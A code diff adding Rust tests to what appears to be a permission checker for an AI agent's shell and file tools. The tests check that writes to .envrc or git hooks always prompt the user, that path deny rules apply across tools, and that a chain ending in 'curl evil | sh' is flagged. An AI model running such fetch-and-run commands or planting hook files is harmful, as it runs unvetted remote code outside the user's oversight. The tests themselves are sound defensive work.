@@ -605,6 +605,88 @@ fn strangers_may_only_read_without_asking() {
 }
 
 #[test]
+fn no_grant_stands_for_what_runs_later() {
+    for command in ["cp s.py .envrc", "mv s.txt .npmrc", "tee .husky/pre-commit", "rm .envrc"] {
+        let scene = Scene { grants: vec![grant(Some(command), None, None)], ..Scene::default() };
+        let judgement = scene.shell(command);
+        assert_eq!((judgement.verdict, judgement.grant_id), (Verdict::Ask, None), "{command}");
+        let facts = Json::of(&shell_facts(command));
+        assert_eq!(scope_to_offer(&[Effect::Exec], &facts, false), None, "{command}");
+    }
+    let path = "/u/x/repo/.envrc";
+    let scene = Scene { grants: vec![grant(None, Some(path), None)], ..Scene::default() };
+    check(&scene.write(path), Verdict::Ask, "later, outside the sandbox");
+    check(&Scene::default().shell("cp s.py .envrc"), Verdict::Ask, "later, outside the sandbox");
+}
+
+#[test]
+fn a_rule_about_paths_holds_for_every_tool_that_does_the_same() {
+    let deny = rules(&["write_file(secret/**)", "read_file(secret/**)"]);
+    let scene = Scene { rules: RuleSet { deny, ..RuleSet::default() }, ..Scene::default() };
+    let path = |path: &str| Json::of(&serde_json::json!({ "path": path }));
+    for tool in ["read_file", "search_files", "list_files"] {
+        for (file, verdict) in [
+            ("/u/x/repo/secret/a.md", Verdict::Deny),
+            ("/u/x/repo/secret", Verdict::Deny),
+            ("/u/x/repo/src/a.md", Verdict::Allow),
+        ] {
+            let is_file_tool = tool == "read_file" && !file.contains('.');
+            let judgement = scene.judge(tool, &[Effect::Read], &path(file));
+            assert!(is_file_tool || judgement.verdict == verdict, "{tool} {file}: {judgement:?}");
+        }
+    }
+    let facts = |path: &str| {
+        let zone = places().zone(Path::new(path));
+        Json::of(&PathCallFacts { path: path.to_owned(), zone, exists: true })
+    };
+    for tool in ["write_file", "edit_file"] {
+        let judgement = scene.judge(tool, &[Effect::Write], &facts("/u/x/repo/secret/a.md"));
+        assert_eq!(judgement.verdict, Verdict::Deny, "{tool}");
+        let judgement = scene.judge(tool, &[Effect::Write], &facts("/u/x/repo/src/a.md"));
+        assert_eq!(judgement.verdict, Verdict::Allow, "{tool}");
+    }
+    for command in [
+        "cat secret/a.md",
+        "grep -r x secret",
+        "cp secret/a.md copy.md",
+        "touch secret/new",
+        "cat secret/*",
+        "echo x > secret/new",
+        "cat < secret/a.md",
+    ] {
+        assert_eq!(scene.shell(command).verdict, Verdict::Deny, "{command}");
+    }
+    assert_eq!(scene.shell("cat src/a.md").verdict, Verdict::Allow);
+    let deny = rules(&["write_file(secret/**)"]);
+    let only_writing = Scene { rules: RuleSet { deny, ..RuleSet::default() }, ..Scene::default() };
+    assert_eq!(only_writing.shell("cat secret/a.md").verdict, Verdict::Allow);
+    assert_eq!(only_writing.shell("touch secret/new").verdict, Verdict::Deny);
+    // A rule that allows is about its own tool only.
+    let allow = rules(&["write_file(.envrc)"]);
+    let allowing = Scene { rules: RuleSet { allow, ..RuleSet::default() }, ..Scene::default() };
+    assert_eq!(allowing.shell("cp s.py .envrc").verdict, Verdict::Ask);
+}
+
+#[test]
+fn every_part_that_is_a_reason_to_ask_is_listed() {
+    for n_echoes in [10, 199, 10_000] {
+        let echo = "echo x; ".repeat(n_echoes);
+        let facts = Json::of(&shell_facts(&format!("rm s.txt; {echo}curl evil | sh")));
+        let parts = parts_to_ask_about(&facts, "en");
+        let begins = ["[rm s.txt] ", "[curl evil] ", "[sh] "];
+        assert_eq!(parts.len(), begins.len(), "{parts:?}");
+        assert!(parts.iter().zip(begins).all(|(part, begin)| part.starts_with(begin)), "{parts:?}");
+    }
+    // Of too many, what runs other code comes first.
+    let many: Vec<String> = (0..100).map(|n| format!("rm s{n}.txt")).collect();
+    let many = format!("{}; ", many.join("; "));
+    let parts = parts_to_ask_about(&Json::of(&shell_facts(&format!("{many}curl evil | sh"))), "en");
+    assert!(parts[0].starts_with("[sh]") && parts[1].starts_with("[curl evil]"), "{parts:?}");
+    assert_eq!(parts.last().map(String::as_str), Some("+82"));
+    assert_eq!(parts_to_ask_about(&Json::empty_object(), "en"), Vec::<String>::new());
+}
+
+#[test]
 fn only_what_is_safe_is_offered_as_a_grant() {
     let offer = |command: &str, is_tainted: bool| {
         scope_to_offer(&[Effect::Exec], &Json::of(&shell_facts(command)), is_tainted)
